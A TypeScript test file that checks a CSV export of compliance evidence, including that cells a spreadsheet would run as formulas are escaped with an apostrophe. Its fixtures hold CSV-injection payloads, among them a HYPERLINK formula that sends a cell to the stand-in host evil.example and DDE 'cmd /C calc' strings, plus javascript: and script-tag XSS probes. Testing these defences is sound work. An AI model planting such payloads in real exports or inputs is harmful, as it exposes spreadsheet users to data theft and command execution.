import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { EVIDENCE_CSV_COLUMNS, evidenceCsv, neutralizeFormula } from '../../../lib/report/evidence-csv';
import type { ReportCapture, ReportModel } from '../../../lib/report/model';

const LONG = 'x'.repeat(20_000);

function capture(id: string, folder: string, over: Partial<ReportCapture> = {}): ReportCapture {
  return {
    id,
    capturedAt: '2026-01-05T10:00:00.000Z',
    pageUrl: 'https://console.example.com/users',
    pageTitle: 'Users',
    capturer: { name: 'Ada Lovelace', email: 'ada@example.com' },
    note: '',
    controlIds: [folder],
    captureMode: 'visible',
    image: { width: 10, height: 10, sha256: id.padEnd(64, '0') },
    metadataSha256: 'f'.repeat(64),
    paths: { image: `${folder}/2026-01-05T10-00-00.000Z_${id}.png`, metadata: `${folder}/${id}.json` },
    timestamp: { status: 'none' },
    imported: false,
    ...over,
  };
}

function shared(folder: string): ReportCapture {
  return capture('cap-shared', folder, {
    pageTitle: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    pageUrl: 'javascript:alert(1)',
    note: 'Reviewed, "all good"\r\nsecond line, with comma\nthird; line',
    capturer: { name: '@SUM(1+1)', email: 'eve@example.com' },
    controlIds: ['A.5.18', 'CC6.3'],
    paths: { image: `${folder}/2026 "quoted", name.png`, metadata: `${folder}/m.json` },
    timestamp: { status: 'stamped', genTime: '2026-01-05T10:00:03Z', tsaName: 'FreeTSA' },
  });
}

const model: ReportModel = {
  bundleName: 'b.zip',
  exportedAt: '2026-03-01T00:00:00Z',
  extensionVersion: '0.2.0',
  scopeLabel: 'All',
  period: { from: '2026-01-01T00:00:00Z', to: '2026-03-01T00:00:00Z' },
  signers: [],
  deletions: [],
  controls: [
    {
      id: 'A.5.18',
      framework: 'ISO/IEC 27001:2022',
      title: 'Access rights',
      captures: [
        shared('A.5.18'),
        capture('cap-injections', 'A.5.18', {
          pageTitle: '+cmd|" /C calc"!A0',
          pageUrl: '-2+3',
          note: '=1+2\n=cmd|"/C calc"!A0', // multi-line: missed by Papa's own escapeFormulae
          capturer: { name: '\tTabbed', email: 'tab@example.com' },
          timestamp: { status: 'pending' },
        }),
        capture('cap-more', 'A.5.18', {
          pageTitle: "'already quoted",
          note: '\r=cr',
          capturer: { name: '', email: 'noname@example.com' },
        }),
        capture('cap-intl', 'A.5.18', {
          pageTitle: 'Revue des accès — مراجعة الوصول',
          note: 'הערה <script>alert(1)</script>',
          capturer: { name: 'Zoë Ñúñez', email: 'zoe@example.com' },
        }),
        capture('cap-long', 'A.5.18', { pageTitle: LONG, effectiveDate: '2025-12-30' }),
      ],
    },
    { id: 'CC6.3', framework: 'SOC 2', title: 'Role-based access', captures: [shared('CC6.3')] },
  ],
};

const csv = evidenceCsv(model);

function parse(text: string): string[][] {
  const r = Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true });
  expect(r.errors).toEqual([]);
  return r.data;
}

/** What a reader does: drop the one apostrophe the writer may have added. */
const restore = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

/** The rows the model should give, unescaped. */
function expectedRows(): string[][] {
  return model.controls.flatMap((c) =>
    c.captures.map((cap) => [
      c.id,
      c.framework,
      cap.capturedAt,
      cap.pageUrl,
      cap.pageTitle,
      cap.capturer.name ? `${cap.capturer.name} <${cap.capturer.email}>` : cap.capturer.email,
      cap.note,
      cap.image.sha256,
      cap.paths.image,
      cap.timestamp.status === 'stamped'
        ? `stamped ${cap.timestamp.genTime} by ${cap.timestamp.tsaName}`
        : cap.timestamp.status,
      cap.effectiveDate ?? '',
    ]),
  );
}

describe('evidenceCsv', () => {
  it('starts with a UTF-8 byte order mark, then the version 2 header', () => {
    expect(csv.startsWith('\uFEFFcontrol,') || csv.startsWith('\uFEFF"control",')).toBe(true);
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(csv)[0]).toEqual([
      'control',
      'framework',
      'captured_at_utc',
      'url',
      'page_title',
      'capturer',
      'note',
      'sha256',
      'file_path',
      'timestamp_status',
      'effective_date',
    ]);
    expect(EVIDENCE_CSV_COLUMNS).toHaveLength(11);
  });

  it('parses back into exactly the values, less the injection apostrophe', () => {
    const rows = parse(csv).slice(1);
    expect(rows.map((r) => r.map(restore))).toEqual(expectedRows());
  });

  it('gives one row per capture and control', () => {
    const rows = parse(csv).slice(1);
    expect(rows).toHaveLength(6);
    const sharedRows = rows.filter((r) => r[7] === 'cap-shared'.padEnd(64, '0'));
    expect(sharedRows.map((r) => [r[0], r[1], r[8]])).toEqual([
      ['A.5.18', 'ISO/IEC 27001:2022', 'A.5.18/2026 "quoted", name.png'],
      ['CC6.3', 'SOC 2', 'CC6.3/2026 "quoted", name.png'],
    ]);
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    const rows = parse(csv).slice(1);
    const cells = rows.flat();
    for (const cell of cells) expect(cell, JSON.stringify(cell.slice(0, 40))).not.toMatch(/^[=+\-@\t\r]/);
    const byId = (id: string) => rows.find((r) => r[7] === id.padEnd(64, '0'))!;
    expect(byId('cap-shared')[4]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(byId('cap-shared')[5]).toBe("'@SUM(1+1) <eve@example.com>");
    expect(byId('cap-injections')[3]).toBe("'-2+3");
    expect(byId('cap-injections')[4]).toBe(`'+cmd|" /C calc"!A0`);
    expect(byId('cap-injections')[5]).toBe("'\tTabbed <tab@example.com>");
    expect(byId('cap-injections')[6]).toBe(`'=1+2\n=cmd|"/C calc"!A0`);
    expect(byId('cap-more')[6]).toBe("'\r=cr");
    // An apostrophe of its own is doubled, so one removal always restores the value.
    expect(byId('cap-more')[4]).toBe("''already quoted");
    expect(byId('cap-intl')[4]).toBe('Revue des accès — مراجعة الوصول');
  });

  it('neutralizeFormula leaves ordinary text alone', () => {
    expect(neutralizeFormula('Users')).toBe('Users');
    expect(neutralizeFormula('a=b')).toBe('a=b');
    expect(neutralizeFormula('')).toBe('');
    expect(neutralizeFormula('=1')).toBe("'=1");
  });

  it('quotes every field and ends every record with CRLF (RFC 4180)', () => {
    const body = csv.slice(1); // after the BOM
    const quoted = body.match(/"(?:[^"]|"")*"/g)!;
    expect(quoted).toHaveLength(11 * 7);
    // Outside quoted fields only separators remain: commas between fields, CRLF after records.
    const outside = body.replace(/"(?:[^"]|"")*"/g, '');
    expect(outside).toBe(`${','.repeat(10)}\r\n`.repeat(7));
    // A note's own line breaks stay inside its quoted field.
    expect(csv).toContain('"Reviewed, ""all good""\r\nsecond line, with comma\nthird; line"');
  });

  it('gives the activity date in effective_date, empty when the capturer stated none', () => {
    const rows = parse(csv).slice(1);
    const effective = rows.map((r) => r[10]);
    expect(effective).toEqual(['', '', '', '', '2025-12-30', '']);
    // The signed capture time stays in its own column.
    expect(rows[4]![2]).toBe('2026-01-05T10:00:00.000Z');
  });

  it('keeps long values whole', () => {
    const rows = parse(csv).slice(1);
    expect(rows.find((r) => r[4] === LONG)).toBeDefined();
  });

  it('writes just the header for a model with no captures', () => {
    const empty = evidenceCsv({ ...model, controls: [] });
    expect(parse(empty)).toEqual([[...EVIDENCE_CSV_COLUMNS]]);
  });
});
